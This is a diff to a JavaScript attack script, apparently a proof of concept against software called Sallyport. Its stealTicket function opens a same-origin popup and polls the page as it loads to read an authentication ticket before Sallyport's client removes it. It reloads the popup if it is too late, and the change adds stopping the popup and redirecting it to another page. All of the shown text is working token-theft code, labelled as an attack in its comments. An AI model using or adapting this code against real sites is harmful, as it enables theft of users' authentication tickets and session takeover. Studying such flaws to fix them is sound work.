@@ -18,21 +18,24 @@ const turn = () => new Promise((done) => {
 
 // The address at which tickets are had stands in the page until Sallyport's
 // client, its first script, takes it out. A window of the same origin can be
-// watched while it loads.
-export async function stealTicket() {
+// watched while it loads. It then goes on to another page, before it becomes
+// a second app.
+export async function stealTicket(next) {
   const other = open("/", "_blank", "popup,width=320,height=120");
   if (!other) throw new Error("the browser kept the attack's window back: allow pop-ups for this page, then run again");
-  try {
-    const until = performance.now() + 10_000;
-    for (let missed = 0; performance.now() < until; await turn()) {
-      const config = other.document?.getElementById("sallyport-page");
-      if (config) return JSON.parse(config.textContent).ticket;
-      if (other.sallyport && other.document.readyState === "complete" && missed++ % 1000 === 0) other.location.reload(); // too late
+  const until = performance.now() + 10_000;
+  for (let missed = 0; performance.now() < until; await turn()) {
+    const config = other.document?.getElementById("sallyport-page");
+    if (config) {
+      const { ticket } = JSON.parse(config.textContent);
+      other.stop();
+      other.location.replace(next);
+      return ticket;
     }
-    throw new Error("the attack's window showed no ticket");
-  } finally {
-    other.close();
+    if (other.sallyport && other.document.readyState === "complete" && missed++ % 1000 === 0) other.location.reload(); // too late
   }
+  other.close();
+  throw new Error("the attack's window showed no ticket");
 }
 
 // Capture embeds a genuine frame over the relay and begins a session of its
